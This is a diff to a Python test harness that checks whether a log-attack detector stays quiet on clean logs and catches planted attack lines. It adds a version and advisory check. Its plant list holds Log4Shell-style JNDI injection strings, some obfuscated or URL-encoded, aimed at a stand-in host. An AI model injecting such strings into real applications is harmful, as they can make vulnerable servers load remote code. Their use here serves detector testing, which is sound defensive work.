@@ -5,6 +5,7 @@ Reads every file below DIR/logs (or DIR when it has no logs folder). Two questio
  * Quiet: does detect report anything? Each report is printed for a person to look at, and counts as a failure unless the
    log really was attacked: list such files, one path per line relative to DIR, in DIR/attacked.txt.
  * Awake: with an attack planted in place of a random word of some lines, does detect report exactly those lines?
+Version vectors, ranges and OSV records are for tools/corpora/versions.py, where --tools has the tests' programs.
 Prints N passed, N failed, N skipped. Nothing is written below DIR.
 """
 import argparse
@@ -17,6 +18,8 @@ import random
 import subprocess
 import sys
 import tempfile
+
+from corpora import versions
 
 OPENERS = {".gz": gzip.open, ".bz2": bz2.open, ".xz": lzma.open}
 PLANTS = ["${jndi:ldap://probe.example/a}", "${${lower:j}ndi:rmi://probe.example/a}", "%24%7Bjndi:dns://probe.example/a%7D",
@@ -51,6 +54,7 @@ def plant(lines, rng):
 def main():
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("--caltrop", required=True)
+    parser.add_argument("--tools", type=pathlib.Path, help="folder with version_tool and advisory_tool")
     parser.add_argument("--seed", type=int, default=random.SystemRandom().randrange(1 << 32))
     parser.add_argument("corpora")
     args = parser.parse_args()
@@ -96,6 +100,9 @@ def main():
         else:
             failed += 1
             print(f"{name}: planted but not found, lines {sorted(set(want) - set(got))[:20]}; found but not planted {sorted(set(got) - set(want))[:20]}")
+    if args.tools:
+        counts = versions.run(root, args.tools, print)
+        passed, failed, skipped = (a + b for a, b in zip((passed, failed, skipped), counts))
     print(f"{passed} passed, {failed} failed, {skipped} skipped")
     return 1 if failed else 0
 
